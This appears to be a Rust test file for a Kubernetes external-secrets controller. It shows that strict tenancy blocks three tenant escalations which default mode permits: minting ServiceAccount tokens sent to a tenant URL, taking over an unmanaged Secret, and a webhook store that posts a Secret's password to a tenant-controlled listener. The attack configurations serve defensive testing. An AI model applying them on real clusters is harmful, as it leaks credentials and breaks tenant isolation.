//! Least-privilege tenancy, from the attacker's side (issue 23): a tenant who may only create
//! ExternalSecrets, SecretStores and ConfigMaps in its namespace (on a real cluster, a user
//! with exactly that Role, impersonated) tries the three in-namespace escalations upstream
//! allows. In the default mode (upstream's) each works, as docs/security.md says; with strict
//! tenancy each ends in `Ready=False` naming the missing opt-in, until the object's owner opts
//! in.
//!
//! The tenant's URLs point at a listener of this test that records what it receives.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::time::Duration;

use eso_api::{ExternalSecret, SecretStore};
use eso_core::controller::ControllerConfig;
use eso_core::tenancy::Tenancy;
use eso_tests::{Listener, RunningController, TEST_MANAGER, TestCluster, eventually, install_crds};
use k8s_openapi::api::core::v1::{Secret, ServiceAccount};
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use kube::api::{Api, Patch, PatchParams, PostParams};
use serde_json::json;

const TENANT: &str = "tenant-alice";

struct Env {
    cluster: TestCluster,
    /// The tenant's view: impersonates a user bound to the tenant Role (real clusters).
    tenant: kube::Client,
}

impl Env {
    async fn new() -> Self {
        let cluster = TestCluster::new().await.unwrap();
        install_crds(&cluster.client()).await.unwrap();
        let ns = cluster.namespace().to_owned();
        let client = cluster.client();
        if cluster.is_real() {
            let role: Role = serde_json::from_value(json!({
                "metadata": {"name": "tenant"},
                "rules": [
                    {"apiGroups": ["external-secrets.io"],
                     "resources": ["externalsecrets", "secretstores"],
                     "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]},
                    {"apiGroups": [""], "resources": ["configmaps"],
                     "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]}
                ]
            }))
            .unwrap();
            Api::<Role>::namespaced(client.clone(), &ns)
                .create(&PostParams::default(), &role)
                .await
                .unwrap();
            let binding: RoleBinding = serde_json::from_value(json!({
                "metadata": {"name": "tenant"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
                "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": TENANT}]
            }))
            .unwrap();
            Api::<RoleBinding>::namespaced(client.clone(), &ns)
                .create(&PostParams::default(), &binding)
                .await
                .unwrap();
        }
        let kubeconfig = kube::config::Kubeconfig::read_from(cluster.kubeconfig_path()).unwrap();
        let mut config = kube::Config::from_custom_kubeconfig(
            kubeconfig,
            &kube::config::KubeConfigOptions::default(),
        )
        .await
        .unwrap();
        config.auth_info.impersonate = Some(TENANT.to_owned());
        let tenant = kube::Client::try_from(config).unwrap();
        let env = Self { cluster, tenant };
        if env.cluster.is_real() {
            // The tenant really cannot read Secrets (the authorizer sees the binding at once or
            // a moment later; either way a Secret read must be refused).
            let denied = Api::<Secret>::namespaced(env.tenant.clone(), env.ns())
                .list(&Default::default())
                .await
                .is_err();
            assert!(denied, "the tenant must not be able to read Secrets");
        }
        env
    }

    fn ns(&self) -> &str {
        self.cluster.namespace()
    }

    /// The tenant creates (server-side applies) one of its objects, retrying while the
    /// authorizer catches up with the new RoleBinding.
    async fn tenant_applies<K>(&self, obj: &K)
    where
        K: kube::Resource<DynamicType = (), Scope = kube::core::NamespaceResourceScope>
            + Clone
            + serde::Serialize
            + serde::de::DeserializeOwned
            + std::fmt::Debug,
    {
        let api: Api<K> = Api::namespaced(self.tenant.clone(), self.ns());
        let name = obj.meta().name.clone().unwrap();
        let mut last = None;
        for _ in 0..50 {
            match api
                .patch(
                    &name,
                    &PatchParams::apply(TEST_MANAGER).force(),
                    &Patch::Apply(obj),
                )
                .await
            {
                Ok(_) => return,
                Err(e) => last = Some(e),
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        panic!("the tenant could not apply {name}: {last:?}");
    }

    /// The namespace admin (not the tenant) creates a Secret.
    async fn admin_secret(
        &self,
        name: &str,
        labels: serde_json::Value,
        annotations: serde_json::Value,
    ) {
        let secret: Secret = serde_json::from_value(json!({
            "metadata": {"name": name, "labels": labels, "annotations": annotations},
            "stringData": {"password": "hunter2"}
        }))
        .unwrap();
        Api::<Secret>::namespaced(self.cluster.client(), self.ns())
            .create(&PostParams::default(), &secret)
            .await
            .unwrap();
    }

    fn controller(&self, tenancy: Tenancy) -> RunningController {
        RunningController::start_with(
            self.cluster.client(),
            ControllerConfig::default().tenancy(tenancy),
            self.ns(),
        )
    }

    async fn ready(&self, name: &str, status: &str) -> String {
        let api: Api<ExternalSecret> = Api::namespaced(self.cluster.client(), self.ns());
        let what = format!("{name} to be Ready={status}");
        let mut message = String::new();
        eventually(&what, || {
            let api = api.clone();
            async move {
                api.get(name).await.ok().is_some_and(|es| {
                    es.status
                        .iter()
                        .flat_map(|s| s.conditions.iter())
                        .any(|c| c.type_ == "Ready" && c.status.as_str() == status)
                })
            }
        })
        .await
        .unwrap();
        let es = api.get(name).await.unwrap();
        if let Some(c) = es
            .status
            .iter()
            .flat_map(|s| s.conditions.iter())
            .find(|c| c.type_ == "Ready")
        {
            message = c.message.clone().unwrap_or_default();
        }
        message
    }
}

fn store(ns: &str, name: &str, provider: serde_json::Value) -> SecretStore {
    serde_json::from_value(json!({
        "apiVersion": "external-secrets.io/v1", "kind": "SecretStore",
        "metadata": {"name": name, "namespace": ns},
        "spec": {"provider": provider}
    }))
    .unwrap()
}

fn external_secret(ns: &str, name: &str, spec: serde_json::Value) -> ExternalSecret {
    serde_json::from_value(json!({
        "apiVersion": "external-secrets.io/v1", "kind": "ExternalSecret",
        "metadata": {"name": name, "namespace": ns},
        "spec": spec
    }))
    .unwrap()
}

// ---- 1. Minting a token for a powerful ServiceAccount and sending it to the tenant's URL ----

async fn token_minting_attack(env: &Env, audiences: Option<Vec<&str>>) -> Listener {
    let listener = Listener::start(json!({"auth": {"client_token": "t", "lease_duration": 60,
        "renewable": false}}))
    .await;
    let account: ServiceAccount =
        serde_json::from_value(json!({"metadata": {"name": "deployer"}})).unwrap();
    let _ = Api::<ServiceAccount>::namespaced(env.cluster.client(), env.ns())
        .create(&PostParams::default(), &account)
        .await;
    let mut account_ref = json!({"name": "deployer"});
    if let Some(audiences) = audiences {
        account_ref["audiences"] = json!(audiences);
    }
    env.tenant_applies(&store(
        env.ns(),
        "vault",
        json!({"vault": {"server": listener.url, "path": "secret", "version": "v2",
            "auth": {"kubernetes": {"mountPath": "kubernetes", "role": "r",
                "serviceAccountRef": account_ref}}}}),
    ))
    .await;
    env.tenant_applies(&external_secret(
        env.ns(),
        "minted",
        json!({"secretStoreRef": {"name": "vault"}, "refreshInterval": "1s",
               "data": [{"secretKey": "x", "remoteRef": {"key": "x"}}]}),
    ))
    .await;
    listener
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn default_mode_mints_a_token_for_any_service_account_as_upstream_does() {
    let env = Env::new().await;
    let listener = token_minting_attack(&env, None).await;
    let controller = env.controller(Tenancy::Default);
    let l = listener.clone();
    eventually("a Vault login carrying a ServiceAccount token", || {
        let l = l.clone();
        async move { l.received("\"jwt\"") }
    })
    .await
    .unwrap();
    controller.stop().await;
    env.cluster.cleanup().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strict_tenancy_mints_tokens_only_for_opted_in_accounts_and_never_for_the_api_server() {
    let env = Env::new().await;
    let listener = token_minting_attack(&env, None).await;
    let controller = env.controller(Tenancy::Strict);
    let message = env.ready("minted", "False").await;
    assert!(
        message.contains("deployer") && message.contains("eso-rs.io/token-request"),
        "the condition names the account and the missing opt-in: {message}"
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(
        !listener.received("\"jwt\""),
        "no token may reach the tenant's URL"
    );

    // The account opts in, but only for tokens the API server rejects: a token with the
    // API server's audience (none set) is still refused.
    let accounts: Api<ServiceAccount> = Api::namespaced(env.cluster.client(), env.ns());
    accounts
        .patch(
            "deployer",
            &PatchParams::default(),
            &Patch::Merge(
                json!({"metadata": {"annotations": {"eso-rs.io/token-request": "true"}}}),
            ),
        )
        .await
        .unwrap();
    let api: Api<ExternalSecret> = Api::namespaced(env.cluster.client(), env.ns());
    eventually("the refusal to name the API server's audience", || {
        let api = api.clone();
        async move {
            api.get("minted").await.ok().is_some_and(|es| {
                es.status.iter().flat_map(|s| s.conditions.iter()).any(|c| {
                    c.type_ == "Ready"
                        && c.message
                            .as_deref()
                            .is_some_and(|m| m.contains("eso-rs.io/token-request-api-audience"))
                })
            })
        }
    })
    .await
    .unwrap();
    assert!(
        !listener.received("\"jwt\""),
        "no API-server token may reach the tenant's URL"
    );
    controller.stop().await;

    // With an audience of its own (one the API server rejects), the opted-in account's token
    // is sent: that is what the opt-in is for.
    let listener = token_minting_attack(&env, Some(vec!["vault"])).await;
    let controller = env.controller(Tenancy::Strict);
    let l = listener.clone();
    let sent = eventually("a Vault login with the opted-in account's token", || {
        let l = l.clone();
        async move { l.received("\"jwt\"") }
    })
    .await;
    if let Err(e) = sent {
        let es = api.get("minted").await.unwrap();
        panic!("{e}: status {:?}", es.status);
    }
    controller.stop().await;
    env.cluster.cleanup().await.unwrap();
}

// ---- 2. Taking over a Secret nobody manages -------------------------------------------------

async fn takeover_attack(env: &Env) {
    env.tenant_applies(&store(
        env.ns(),
        "fake",
        json!({"fake": {"data": [{"key": "k", "value": "tenant-value"}]}}),
    ))
    .await;
    env.tenant_applies(&external_secret(
        env.ns(),
        "taker",
        json!({"secretStoreRef": {"name": "fake"}, "refreshInterval": "1s",
               "target": {"name": "handmade", "creationPolicy": "Owner"},
               "data": [{"secretKey": "password", "remoteRef": {"key": "k"}}]}),
    ))
    .await;
}

async fn password_of(env: &Env, name: &str) -> String {
    let secret = Api::<Secret>::namespaced(env.cluster.client(), env.ns())
        .get(name)
        .await
        .unwrap();
    String::from_utf8_lossy(&secret.data.unwrap_or_default()["password"].0).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn default_mode_takes_over_a_hand_made_secret_as_upstream_does() {
    let env = Env::new().await;
    env.admin_secret("handmade", json!({}), json!({})).await;
    takeover_attack(&env).await;
    let controller = env.controller(Tenancy::Default);
    env.ready("taker", "True").await;
    assert_eq!(password_of(&env, "handmade").await, "tenant-value");
    controller.stop().await;
    env.cluster.cleanup().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strict_tenancy_never_adopts_a_secret_that_does_not_opt_in() {
    let env = Env::new().await;
    env.admin_secret("handmade", json!({}), json!({})).await;
    let secrets: Api<Secret> = Api::namespaced(env.cluster.client(), env.ns());
    let before = secrets
        .get("handmade")
        .await
        .unwrap()
        .metadata
        .resource_version;
    takeover_attack(&env).await;
    let controller = env.controller(Tenancy::Strict);
    let message = env.ready("taker", "False").await;
    assert!(
        message.contains("handmade") && message.contains("eso-rs.io/adopt"),
        "the condition names the Secret and the missing opt-in: {message}"
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    let after = secrets.get("handmade").await.unwrap();
    assert_eq!(
        after.metadata.resource_version, before,
        "the Secret was not touched"
    );
    assert!(after.metadata.owner_references.is_none());

    // Its owner opts in: now the ExternalSecret may write it.
    secrets
        .patch(
            "handmade",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"annotations": {"eso-rs.io/adopt": "true"}}})),
        )
        .await
        .unwrap();
    env.ready("taker", "True").await;
    assert_eq!(password_of(&env, "handmade").await, "tenant-value");
    controller.stop().await;
    env.cluster.cleanup().await.unwrap();
}

// ---- 3. A webhook store reading a Secret of the namespace and sending it out -----------------

async fn exfiltration_attack(env: &Env) -> Listener {
    let listener = Listener::start(json!({"value": "ok"})).await;
    env.tenant_applies(&store(
        env.ns(),
        "hook",
        json!({"webhook": {"url": format!("{}/collect", listener.url), "method": "POST",
            "body": "{{ .creds.password }}", "result": {"jsonPath": "$.value"},
            "secrets": [{"name": "creds", "secretRef": {"name": "db-creds"}}]}}),
    ))
    .await;
    env.tenant_applies(&external_secret(
        env.ns(),
        "exfil",
        json!({"secretStoreRef": {"name": "hook"}, "refreshInterval": "1s",
               "data": [{"secretKey": "x", "remoteRef": {"key": "x"}}]}),
    ))
    .await;
    listener
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn default_mode_lets_a_webhook_store_read_the_namespaces_secrets_as_upstream_does() {
    let env = Env::new().await;
    env.admin_secret("db-creds", json!({}), json!({})).await;
    let listener = exfiltration_attack(&env).await;
    let controller = env.controller(Tenancy::Default);
    let l = listener.clone();
    eventually("the Secret's value at the tenant's URL", || {
        let l = l.clone();
        async move { l.received("hunter2") }
    })
    .await
    .unwrap();
    controller.stop().await;
    env.cluster.cleanup().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strict_tenancy_lets_stores_read_only_secrets_labelled_readable() {
    let env = Env::new().await;
    env.admin_secret("db-creds", json!({}), json!({})).await;
    let listener = exfiltration_attack(&env).await;
    let controller = env.controller(Tenancy::Strict);
    let message = env.ready("exfil", "False").await;
    assert!(
        message.contains("db-creds") && message.contains("eso-rs.io/readable"),
        "the condition names the Secret and the missing opt-in: {message}"
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(
        !listener.received("hunter2"),
        "the Secret's value must not leave the cluster"
    );

    // Its owner labels it readable: now the store may use it.
    Api::<Secret>::namespaced(env.cluster.client(), env.ns())
        .patch(
            "db-creds",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"labels": {"eso-rs.io/readable": "true"}}})),
        )
        .await
        .unwrap();
    let l = listener.clone();
    eventually("the labelled Secret's value in the webhook call", || {
        let l = l.clone();
        async move { l.received("hunter2") }
    })
    .await
    .unwrap();
    controller.stop().await;
    env.cluster.cleanup().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strict_tenancy_refuses_templates_that_set_the_readable_label() {
    let env = Env::new().await;
    env.tenant_applies(&store(
        env.ns(),
        "fake",
        json!({"fake": {"data": [{"key": "k", "value": "v"}]}}),
    ))
    .await;
    env.tenant_applies(&external_secret(
        env.ns(),
        "laundering",
        json!({"secretStoreRef": {"name": "fake"},
               "target": {"template": {"metadata": {"labels": {"eso-rs.io/readable": "true"}}}},
               "data": [{"secretKey": "k", "remoteRef": {"key": "k"}}]}),
    ))
    .await;
    let controller = env.controller(Tenancy::Strict);
    let message = env.ready("laundering", "False").await;
    assert!(message.contains("eso-rs.io/readable"), "{message}");
    let secret = Api::<Secret>::namespaced(env.cluster.client(), env.ns())
        .get_opt("laundering")
        .await
        .unwrap();
    assert!(secret.is_none(), "no Secret is written");
    controller.stop().await;
    env.cluster.cleanup().await.unwrap();
}
